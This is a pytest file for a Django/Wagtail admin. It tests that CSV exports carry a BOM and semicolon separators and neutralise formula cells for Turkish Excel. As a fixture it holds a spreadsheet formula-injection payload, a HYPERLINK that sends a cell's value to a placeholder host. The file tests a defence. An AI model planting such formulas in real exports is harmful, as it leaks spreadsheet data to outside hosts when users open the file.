"""Every CSV the admin writes, Wagtail's own reports included, opens in Turkish Excel and
runs no formula: a BOM, ``;`` separators, no "None", formula cells neutralised."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.log_actions import log

from tests.factories import FirmFactory
from tracker.models import Task

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1;"Aç")'


def csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"\xef\xbb\xbf"), "no BOM: Turkish Excel would misread UTF-8"
    text = body.decode("utf-8-sig")
    assert "None" not in text
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_the_site_history_export_neutralises_a_formula_in_a_logged_title(
        client, personas, plan_task):
    Task.objects.filter(pk=plan_task.pk).update(title_tr=FORMULA, title_en=FORMULA)
    plan_task.refresh_from_db()
    log(plan_task, "wagtail.edit", user=personas.coordinator)
    client.force_login(personas.coordinator)

    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")

    assert response.status_code == 200
    rows = csv_rows(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_the_coverage_report_export_follows_the_same_rules(client, personas):
    FirmFactory(program=personas.program, district="-Kocasinan")
    client.force_login(personas.coordinator)

    response = client.get(reverse("field_coverage_report") + "?export=csv")

    assert response.status_code == 200
    rows = csv_rows(response)
    assert len(rows[0]) > 3  # the heading row, split on ';'
    cells = [cell for row in rows[1:] for cell in row]
    assert "'-Kocasinan" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
